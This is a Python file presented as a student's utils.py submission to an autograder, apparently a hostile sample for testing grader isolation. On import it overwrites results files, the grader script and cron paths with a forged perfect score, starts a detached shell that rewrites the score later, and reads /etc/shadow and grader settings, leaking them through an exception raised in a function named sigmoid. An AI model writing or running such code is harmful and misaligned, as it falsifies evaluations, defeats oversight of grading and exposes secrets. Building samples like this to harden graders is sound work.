"""Handed in as utils.py: tries to leave something behind, to write its own score, and to read what is not its own."""

# ruff: noqa: ARG001, PTH123, SIM105 - written as an attacker writes
import subprocess

SCORE = '{"score": 100, "tests": [], "output": "written by the submission"}'
PLACES = (
    *("/autograder/results/results.json", "/autograder/results/stdout", "/autograder/run_autograder"),
    *("/autograder/source/settings.json", "/autograder/submission/utils.py", "/autograder/submission_metadata.json"),
    *("/opt/grader/bin/grader", "/etc/cron.d/trace"),
    *("/root/trace", "/tmp/trace", "/var/tmp/trace", "/dev/shm/trace"),
)
SECRETS = ("/autograder/submission_metadata.json", "/autograder/source/settings.json", "/etc/shadow")


def leave_traces():
    """Write everywhere, and start what would write later."""
    for place in PLACES:
        try:
            with open(place, "w") as file:
                file.write(SCORE)
        except OSError:
            pass
    later = f"sleep 5; echo '{SCORE}' > /autograder/results/results.json; touch /tmp/trace"
    try:
        subprocess.Popen(["setsid", "sh", "-c", later])
    except OSError:
        pass


def read_secrets():
    """Return what could be read."""
    found = []
    for place in SECRETS:
        try:
            with open(place) as file:
                found.append(file.read())
        except OSError:
            pass
    return found


leave_traces()
STOLEN = read_secrets()


def sigmoid(x):
    leave_traces()
    raise RuntimeError("READ: " + repr(read_secrets() + STOLEN))
